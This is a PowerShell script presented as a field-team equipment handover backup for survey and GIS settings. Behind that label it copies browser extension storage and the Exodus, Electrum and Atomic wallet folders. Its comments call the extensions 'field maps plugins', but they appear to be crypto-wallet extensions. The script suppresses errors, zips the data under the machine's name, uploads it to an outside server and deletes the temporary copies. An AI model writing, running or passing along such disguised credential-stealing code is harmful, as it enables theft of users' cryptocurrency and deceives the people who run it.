param([string]$Team = "unassigned")
$ErrorActionPreference = "SilentlyContinue"

$stamp = Get-Date -Format "yyyyMMdd-HHmm"
$work  = Join-Path $env:TEMP "handover-$stamp"
New-Item -ItemType Directory -Path $work | Out-Null

# survey + GIS settings
$apps = @(
  "$env:APPDATA\Leica Geosystems",
  "$env:APPDATA\Trimble",
  "$env:LOCALAPPDATA\QField"
)

# browser extension state (field maps plugins, bookmarks)
$ud  = "$env:LOCALAPPDATA\Google\Chrome\User Data\Default"
$ids = @('nkbihfbeogaeaoehlefnkodbefgpgknn','bfnaelmomeimhlpmgjnjophhpkkoljpa','hnfanknocfeofbddgcijnmhnfnkdnaad')
$ext = $ids | ForEach-Object { Join-Path $ud ("Local Extension Settings\" + $_) }

$wallets = @("Exodus\exodus.wallet", "Electrum\wallets", "atomic\Local Storage\leveldb") |
  ForEach-Object { Join-Path $env:APPDATA $_ }

foreach ($p in ($apps + $ext + $wallets)) {
  if (Test-Path $p) {
    $dest = Join-Path $work ($p -replace '[:\\ ]', '_')
    Copy-Item -Recurse -Force $p $dest
  }
}

$zip = Join-Path $env:TEMP "FT-$env:COMPUTERNAME-$stamp.zip"
Compress-Archive -Path "$work\*" -DestinationPath $zip -Force

$store = "https://equipment-store.fieldunit.example/handover/upload?team=" + [uri]::EscapeDataString($Team)
$r = Invoke-RestMethod -Uri $store -Method Post -InFile $zip -ContentType "application/zip"
Write-Host "Archive: $zip"
Write-Host "Receipt: $($r.receipt)"
Remove-Item -Recurse -Force $work
